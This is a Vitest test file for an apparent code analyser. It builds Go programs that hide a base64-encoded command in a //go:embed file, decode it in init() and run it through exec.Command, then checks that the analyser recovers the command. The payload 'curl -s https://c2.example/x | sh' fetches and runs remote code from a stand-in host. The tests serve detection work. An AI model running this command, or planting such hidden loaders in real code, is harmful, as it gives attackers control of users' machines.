import { expect, test } from 'vitest';
import { textsOf } from '../../support/values.ts';

const program = (declaration: string, use: string) =>
  `package m\n\nimport (\n\t"embed"\n\t"io/fs"\n\t"encoding/base64"\n\t"encoding/hex"\n\t"os/exec"\n\t"strings"\n)\n\nvar _, _, _, _ = fs.Sub, hex.EncodeToString, base64.StdEncoding, strings.ToLower\nvar _ embed.FS\n\n${declaration}\n\nfunc init() {\n\t${use}\n}\n`;
const COMMAND = 'curl -s https://c2.example/x | sh';
const encoded = Buffer.from(COMMAND).toString('base64');
const run = 'exec.Command("sh", "-c", string(x)).Run()';

test.each([
  [
    'a text',
    '//go:embed data.txt\nvar data string',
    `x, _ := base64.StdEncoding.DecodeString(data); ${run}`,
  ],
  [
    'bytes',
    '//go:embed data.txt\nvar data []byte',
    `x, _ := base64.StdEncoding.DecodeString(string(data)); ${run}`,
  ],
  [
    'a group',
    'var (\n\tother = 1\n\n\t// It is small.\n\t//go:embed "data.txt"\n\tdata string\n)',
    `x, _ := base64.StdEncoding.DecodeString(strings.TrimSpace(data)); ${run}`,
  ],
  [
    'a pattern for one file',
    '//go:embed data.*\nvar data string',
    `x, _ := base64.StdEncoding.DecodeString(data); ${run}`,
  ],
  [
    'a folder',
    '//go:embed data.txt\nvar data embed.FS',
    `b, _ := data.ReadFile("data.txt"); x, _ := base64.StdEncoding.DecodeString(string(b)); ${run}`,
  ],
  [
    'a folder that is read through',
    '//go:embed *.txt\nvar data embed.FS',
    `files, _ := fs.ReadDir(data, "."); for _, f := range files { b, _ := fs.ReadFile(data, f.Name()); x, _ := base64.StdEncoding.DecodeString(string(b)); ${run} }`,
  ],
])('%s', async (_, declaration, use) => {
  const { strings } = await textsOf({ 'a.go': program(declaration, use), 'data.txt': encoded });
  const found = strings.find(({ how }) => how.includes('command'));
  expect(found?.value).toContain(COMMAND);
  expect(found?.how).toEqual(expect.arrayContaining(['embed', 'base64']));
});

test('what is not there, or several files, is not known', async () => {
  const code = program(
    '//go:embed *.txt\nvar data string',
    `x, _ := base64.StdEncoding.DecodeString(data); ${run}`,
  );
  for (const files of [{}, { 'a.txt': encoded, 'b.txt': encoded }]) {
    const { strings } = await textsOf({ 'a.go': code, ...files });
    expect(strings.filter(({ value }) => value.includes('curl'))).toEqual([]);
  }
});
